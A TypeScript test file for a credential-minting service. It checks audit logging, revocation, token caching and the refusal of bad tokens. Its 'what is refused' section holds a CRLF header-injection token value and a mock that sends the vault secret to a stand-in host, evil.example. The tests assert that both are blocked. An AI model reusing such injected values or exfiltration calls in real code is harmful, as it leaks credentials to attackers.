import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { describe, test } from 'node:test'
import Type from 'typebox'
import type { SystemEntry } from '../../src/audit/entry.ts'
import type { CredentialId } from '../../src/ids.ts'
import type { Minted, MintInput, MintKind } from '../../src/minting/kind.ts'
import { createMinter, type MinterDeps } from '../../src/minting/minter.ts'
import type { CredentialKey } from '../../src/vault/store.ts'
import { SecretText } from '../../src/vault/secret-text.ts'

const now = 1_800_000_000_000
const secret = 'workspace-token-0123456789'
const credential: CredentialKey = {
  id: 'cred_1' as CredentialId,
  version: 3,
  provider: 'railway',
  environmentId: 'env_1',
  origin: 'https://api.example',
  style: 'bearer',
  mint: { kind: 'railway', project: 'p1' },
}
const narrowing = {
  bindings: [{ kind: 'environment', id: 'e1' }],
  readOnly: true,
  seconds: 900,
}
const good: Minted = { ok: true, token: 'minted-token', expiresAt: now + 900_000, handle: 'h1' }

type Input = MintInput<{ project: string }>

function world(
  mint: (input: Input) => Minted | Promise<Minted>,
  given: {
    readonly kind?: Partial<MintKind<{ project: string }>>
    readonly deps?: Partial<MinterDeps<readonly string[]>>
    readonly refuseEntry?: string
  } = {},
) {
  const entries: SystemEntry[] = []
  const revoked: string[] = []
  const inputs: Input[] = []
  const sent: string[] = []
  const kind: MintKind<{ project: string }> = {
    name: 'railway',
    providers: ['railway'],
    parameters: Type.Object({ project: Type.String() }, { additionalProperties: false }),
    complaint: () => undefined,
    origins: () => ['https://login.example'],
    mint: async (input) => {
      inputs.push(input)
      return mint(input)
    },
    revoke: async ({ token }) => {
      revoked.push(token)
      return Promise.resolve({ ok: true })
    },
    ...given.kind,
  }
  const never = (): never => {
    throw new Error('not to be asked')
  }
  const minter = createMinter<readonly string[]>({
    kind: (name) => (name === kind.name ? kind : undefined),
    audit: {
      append: async (entry) => {
        if ((entry as SystemEntry).action === given.refuseEntry) throw new Error('the log is away')
        entries.push(entry as SystemEntry)
        return Promise.resolve()
      },
    },
    openToMint: () => Promise.resolve(SecretText.of(secret)),
    store: { read: never, claim: never, release: never, keep: never, forget: never },
    read: () => Promise.resolve({ ...credential, state: 'active' }),
    markRejected: () => Promise.resolve(),
    send: async (_, { origin }) => {
      sent.push(origin)
      return Promise.resolve({ status: 200, text: '' })
    },
    guard: (token, parts) => [token.reveal(), ...parts],
    now: () => now,
    ...given.deps,
  })
  const forEgress = (asked = narrowing) => minter.tokenFor(credential, asked, 'req_1')
  return { minter, entries, revoked, inputs, sent, forEgress }
}

describe('a token', () => {
  test('is on record before it is given out, by its digest, and is what its kind was asked for', async () => {
    const { entries, inputs, forEgress } = world(() => good)
    const token = await forEgress()
    assert.ok(token.ok)
    assert.equal(token.secret.reveal(), 'minted-token')
    assert.deepEqual(token.guard, ['minted-token', secret])
    const [input] = inputs
    assert.deepEqual(input?.narrowing, narrowing)
    assert.deepEqual(
      [input?.parameters, input?.secret, input?.origin, input?.cause],
      [{ project: 'p1' }, secret, credential.origin, 'req_1'],
    )
    assert.deepEqual(
      entries.map(({ action, result }) => [action, result]),
      [
        ['credential.minting', 'done'],
        ['credential.mint', 'done'],
      ],
    )
    const [, minted] = entries
    assert.deepEqual(minted?.credential, { id: 'cred_1', version: 3 })
    assert.equal(minted?.cause, 'req_1')
    assert.equal(minted?.expiresAt, now + 900_000)
    assert.deepEqual(minted?.change, {
      kind: 'railway',
      read_only: true,
      seconds: 900,
      bindings: ['environment:e1'],
      token_sha256: createHash('sha256').update('minted-token').digest('hex'),
      handle: 'h1',
    })
    assert.ok(!JSON.stringify(entries).includes('minted-token'))
  })

  test('that cannot be put on record is ended at the provider, and given to nobody', async () => {
    const { minter, revoked, forEgress } = world(() => good, { refuseEntry: 'credential.mint' })
    const refused = await forEgress()
    assert.ok(!refused.ok && refused.why === 'unavailable')
    assert.deepEqual(revoked, ['minted-token'])
    await assert.rejects(minter.mint(credential, SecretText.of(secret), narrowing, 'req_1'))
    assert.equal(revoked.length, 2)
  })

  test('is not even asked for where that cannot be put on record', async () => {
    const { inputs, forEgress } = world(() => good, { refuseEntry: 'credential.minting' })
    assert.equal((await forEgress()).ok, false)
    assert.deepEqual(inputs, [])
  })

  test('is shared by those who ask for the same, and by nobody who asks for less', async () => {
    const { inputs, forEgress } = world(() => good)
    const first = await forEgress()
    const second = await forEgress()
    assert.ok(first.ok && second.ok)
    assert.equal(first.secret, second.secret)
    await forEgress({ ...narrowing, readOnly: false })
    await forEgress({ ...narrowing, bindings: [{ kind: 'environment', id: 'e2' }] })
    assert.equal(inputs.length, 3)
  })

  test('for a lease is minted anew each time', async () => {
    const { minter, inputs } = world(() => good)
    for (let i = 0; i < 2; i++)
      assert.deepEqual(
        await minter.mint(credential, SecretText.of(secret), narrowing, 'req_1'),
        good,
      )
    assert.equal(inputs.length, 2)
  })

  test('of a kind that cannot mint for reads alone is asked for without that', async () => {
    const { inputs, forEgress } = world(() => good, { kind: { narrowsToReads: () => false } })
    await forEgress()
    assert.equal(inputs[0]?.narrowing.readOnly, false)
  })

  test('is forgotten with its credential, and when the provider does not accept it', async () => {
    const state = { version: 3, state: 'active' }
    const { minter, inputs, forEgress } = world(() => good, {
      deps: { read: () => Promise.resolve({ ...credential, ...state }) },
    })
    await forEgress()
    await minter.recheck()
    const same = await forEgress()
    assert.equal(inputs.length, 1)
    assert.ok(same.ok)
    same.refused()
    await forEgress()
    assert.equal(inputs.length, 2)
    for (const change of [{ state: 'disabled' }, { state: 'active', version: 4 }]) {
      Object.assign(state, change)
      await minter.recheck()
      await forEgress()
    }
    assert.equal(inputs.length, 4)
  })
})

describe('what is refused', () => {
  const cases: readonly (readonly [string, Partial<Extract<Minted, { ok: true }>>])[] = [
    ['with a line end in it', { token: 'minted\r\nx-evil: 1' }],
    ['that is empty', { token: '' }],
    ['that ends within a minute', { expiresAt: now + 59_999 }],
    ['that ends at no moment', { expiresAt: Number.NaN }],
    ['with what replaces a secret that others use', { rotated: 'new-secret-of-the-vault' }],
  ]
  for (const [what, change] of cases)
    test(`a token ${what}, which is ended at the provider`, async () => {
      const { entries, revoked, forEgress } = world(() => ({ ...good, ...change }))
      const refused = await forEgress()
      assert.ok(!refused.ok && refused.why === 'impossible')
      assert.equal(revoked.length, 1)
      assert.equal(entries.at(-1)?.result, 'refused')
      assert.ok(!JSON.stringify([entries, refused]).includes('new-secret'))
    })

  test('an exchange with whom the parameters do not name', async () => {
    const { sent, forEgress } = world(async ({ exchange, secret }) => {
      const headers = { authorization: secret }
      await exchange({ origin: 'https://evil.example', method: 'POST', target: '/', headers })
      return good
    })
    const refused = await forEgress()
    assert.ok(!refused.ok && refused.why === 'impossible')
    assert.deepEqual(sent, [])
  })

  test('a kind for another provider, or of other parameters, or none', async () => {
    const changes: readonly Partial<CredentialKey>[] = [
      { provider: 'github' },
      { mint: { kind: 'railway', project: 'p1', more: true } },
      { mint: { kind: 'railway' } },
      { mint: { kind: 'nobody' } },
    ]
    for (const change of changes) {
      const { minter, inputs } = world(() => good)
      const refused = await minter.tokenFor({ ...credential, ...change }, narrowing, 'req_1')
      assert.ok(!refused.ok && refused.why === 'impossible')
      assert.deepEqual(inputs, [])
    }
  })

  test('a kind whose tokens do not end, where nothing keeps them until they are ended', async () => {
    const endless = { kind: { mustRevoke: true } } as const
    const { inputs, forEgress } = world(() => good, endless)
    assert.equal((await forEgress()).ok, false)
    assert.deepEqual(inputs, [])
    const kept: string[] = []
    const keeping = world(() => good, {
      ...endless,
      deps: {
        keepToRevoke: async (one, _narrowing, _cause, mint) => {
          kept.push(one.id)
          return mint()
        },
      },
    })
    assert.equal((await keeping.forEgress()).ok, true)
    assert.deepEqual(kept, ['cred_1'])
  })

  test('a lease of what is shared', async () => {
    const { minter, inputs } = world(() => good, { kind: { exclusive: true } })
    const refused = await minter.mint(credential, SecretText.of(secret), narrowing, 'req_1')
    assert.ok(!refused.ok && refused.why === 'impossible')
    assert.deepEqual(inputs, [])
  })
})

describe('a kind that', () => {
  test('quotes the secret is not repeated', async () => {
    const detail = `no such token: ${secret}`
    const { entries, forEgress } = world(() => ({ ok: false, why: 'rejected', detail }))
    const refused = await forEgress()
    assert.ok(!JSON.stringify([entries, refused]).includes(secret))
  })

  test('throws was answered by nobody, and is not asked again at once', async () => {
    const { entries, inputs, forEgress } = world(() => {
      throw new Error(`no connection with ${secret}`)
    })
    for (let i = 0; i < 3; i++) {
      const refused = await forEgress()
      assert.ok(!refused.ok && refused.why === 'unavailable')
    }
    assert.equal(inputs.length, 1)
    assert.equal(entries.at(-1)?.result, 'refused')
    assert.ok(!JSON.stringify(entries).includes(secret))
  })
})
